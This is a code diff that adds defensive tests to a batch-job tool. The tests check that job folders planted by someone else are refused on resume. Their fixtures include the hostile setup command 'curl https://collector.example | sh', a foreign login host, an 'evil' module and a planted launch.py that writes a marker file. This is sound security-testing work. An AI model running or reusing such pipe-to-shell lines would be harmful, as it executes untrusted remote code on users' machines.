@@ -9,6 +9,7 @@ import { pathsOf } from '../../server/batch/jobFolder.ts';
 import { listJobs, readJob } from '../../server/batch/jobReader.ts';
 import { launchRunner } from '../../server/batch/launchRunner.ts';
 import { readOutputManifest, writeOutputManifest } from '../../server/batch/outputManifest.ts';
+import { isForeign, rememberJob } from '../../server/batch/ownJobs.ts';
 import { sendControl } from '../../server/batch/sendControl.ts';
 import { makeJob, run } from '../batch/jobFixture.ts';
 import { temporaryFolder } from '../batch/temporaryFolder.ts';
@@ -238,6 +239,81 @@ async function job(): Promise<{ readonly folder: string; readonly root: string }
   const { folder } = await makeJob({ root, url: server.url, documents: 1 });
   return { folder, root };
 }
+
+test.each([
+  ['lines of shell', { setup: ['curl https://collector.example | sh'] }, 'collector.example | sh'],
+  ['a host', { host: 'login.collector.example' }, 'host: login.collector.example'],
+  ['a module', { modules: ['evil/1.0'] }, 'module load evil/1.0'],
+])(
+  'W12: a planted job that would run %s on a cluster is not resumed unless the user says so',
+  async (_, slurm, said) => {
+    const { folder } = await job();
+    await change(pathsOf(folder).manifest, (text) => {
+      const datatrove = {
+        tasks: null,
+        workers: null,
+        chunk: 100,
+        serve: 'endpoint',
+        vllmArguments: {},
+        python: null,
+      };
+      const none = {
+        host: null,
+        folder: null,
+        partition: null,
+        account: null,
+        qos: null,
+        time: null,
+        gpus: null,
+        cpus: null,
+        memoryGb: null,
+        modules: [],
+        setup: [],
+        sbatch: {},
+      };
+      const executor = { kind: 'slurm', datatrove, slurm: { ...none, ...slurm } };
+      return JSON.stringify({ ...JSON.parse(text), executor }, null, 2);
+    });
+    const terminal = await openTerminal();
+    expect(await terminal.run('resume', folder)).toMatchObject({
+      code: 2,
+      err: expect.stringContaining(said),
+    });
+  },
+);
+
+test('W13: programs that came in the folder of a job are not run: only a job that the user made works there', async () => {
+  const { folder, root } = await job();
+  const planted = join(folder, 'executor', 'launch-0');
+  await mkdir(planted, { recursive: true });
+  await writeFile(join(planted, 'launch.py'), `open(${JSON.stringify(join(root, 'pwned'))}, 'w')\n`);
+  await change(pathsOf(folder).manifest, (text) => {
+    const datatrove = {
+      tasks: null,
+      workers: null,
+      chunk: 100,
+      serve: 'endpoint',
+      vllmArguments: {},
+      python: null,
+    };
+    return JSON.stringify({ ...JSON.parse(text), executor: { kind: 'datatrove-local', datatrove } }, null, 2);
+  });
+  const terminal = await openTerminal();
+  const refused = await terminal.run('resume', folder);
+  expect(refused).toMatchObject({
+    code: 2,
+    err: expect.stringContaining('programs and notes in its folder executor/'),
+  });
+  expect(await readdir(root)).not.toContain('pwned');
+  const record = join(root, 'own-jobs');
+  const manifest = (await readJob(folder))?.manifest;
+  if (!manifest) throw new Error('The changed manifest cannot be read.');
+  expect(await isForeign(record, folder, manifest)).toBe(true);
+  await rememberJob(record, folder);
+  expect(await isForeign(record, folder, manifest)).toBe(false);
+  await writeFile(pathsOf(folder).manifest, `${await readFile(pathsOf(folder).manifest, 'utf8')} `);
+  expect(await isForeign(record, folder, manifest)).toBe(true);
+});
 
 /** Also makes the job an old one: a young one without a runner is being launched. */
 async function change(manifest: string, edit: (text: string) => string): Promise<void> {
